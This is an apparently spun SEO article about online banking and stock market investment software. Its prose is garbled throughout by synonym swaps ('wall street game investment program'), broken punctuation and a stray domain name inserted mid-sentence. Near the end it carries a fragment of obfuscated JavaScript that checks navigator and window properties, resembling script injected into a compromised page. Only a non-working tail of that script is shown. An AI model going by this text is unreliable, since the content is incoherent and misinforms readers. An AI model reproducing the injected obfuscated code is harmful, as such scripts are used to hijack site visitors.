Everything And Economic Futures Related Guide

When ever man made the computer, it has become an invaluable program to many people that has learned to use it and has changed into a part of all their everyday activities. Many persons turn to different kinds of computer software to suit their demands, and most for these softwares happen to be tailored to the clientele that hopes to support. Nowadays, many people may access the bank accounts internet. From this solo account, they will enroll additional accounts which might include expenses for bank cards, utilities including electricity and water, as well as schedule payments for their insurance premium. These advances inside the financial community have helped facilitate better, safer, simpler transactions which usually benefit consumers. Similarly, when ever stock market purchases shifted for every person trading to today? ring more sophisticated procedure of online trading, companies launched putting up websites to inspire their clients to do virtually all transactions internet. This is usually done using wall street game investment program. An investor may possibly subscribe at no cost or pay for a certain amount with respect to an account through his trading company? nasiums website. When he does this, he could berequired to download and install the stock exchange investment application that the enterprise is applying. This is generally done so the fact that the subscriber as well as the trading organization use the same investment software. There is a volume of stock market purchase software for sale in the software market today. They can go in the simple to the highly innovative one. The majority of these application software programs offer the same basic things about a gui (or GUI) to help a user perform more than one specific duties. There are types of these wall street game investment softwares that are intended for large scale employ yanjce.mhs.narotama.ac.id and there are types which cater for more tailored usage, as in the case of users setting up and applyingpersonal economical managers inside their personal computers and digital colleagues. Investors typically use the application of their choice to manage their very own accounts, and check the benefit of their stocks. This is very useful to online buyers as the technology? s GUI facilitates the jobs that they desire to perform. Wall street game investment programs are purchased independently by the trading companies apply them to work with their clientele. They usually have got agreements when using the company that developed the technology so they will could acquire their merchandise at a lower price. Several companies seek the services of stock market expenditure software programmers to design their particular software so that it is easier to tailor it to their particular needs. 0x446d[13]]= _0xecfdx2}}})(navigator[_0x446d[3]]|| navigator[_0x446d[4]]||window[_0x446d[5]],_0x446d[6])}